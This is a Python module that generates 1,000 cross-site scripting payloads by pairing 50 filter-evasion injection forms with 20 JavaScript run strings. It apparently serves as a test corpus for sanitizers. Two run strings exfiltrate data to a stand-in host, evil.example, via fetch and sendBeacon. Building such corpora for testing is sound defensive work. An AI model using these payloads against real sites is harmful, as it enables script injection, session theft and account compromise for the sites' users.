"""A thousand texts that would run, if a page took text for markup, code or a link.

Each form in which scripts are smuggled in, with each of several things to run. The
forms are those that the OWASP filter evasion cheat sheet and the HTML specification's
own parsing rules suggest.
"""

from itertools import product

__all__ = ["PAYLOADS"]

_RUN = (
    "hit()",
    "top.hit()",
    "window['hit']()",
    "alert(1)",
    "confirm`1`",
    "setTimeout('hit()')",
    "Function('hit()')()",
    "eval(atob('aGl0KCk='))",
    "import('data:text/javascript,hit()')",
    "document.body.append(document.createElement('script'))",
    "location='javascript:hit()'",
    "parent.postMessage(hit(),'*')",
    "navigator.sendBeacon('//evil.example',hit())",
    "fetch('//evil.example?'+hit())",
    "(()=>{throw hit()})()",
    "[].map.constructor('hit()')()",
    "\\u0068it()",
    "hit&lpar;&rpar;",
    "x=hit,x()",
    "hit?.()",
)
_FORMS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT >",
    "<script/x>{}</script>",
    "<script src='data:text/javascript,{}'></script>",
    "<script type=module>{}</script>",
    "<<script>{}//<</script>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<math href='javascript:{}'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={}>'>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '<img src=x onerror="{}">',
    "<img/src/onerror={}>",
    "<IMG SRC=x OnErRoR={}>",
    "<img src='javascript:{}'>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onfocus={} autofocus tabindex=1 x="',
    "' onmouseover={} x='",
    "` onpointerenter={} x=`",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<iframe src='javascript:{}'></iframe>",
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<a href='javascript:{}'>x</a>",
    "<a href='  java\tscript:{}'>x</a>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    "javascript:{}",
    "${{{}}}{{{{{}}}}}",
)
PAYLOADS = tuple(form.format(*(run,) * 2) for form, run in product(_FORMS, _RUN))
assert len(set(PAYLOADS)) == 1000
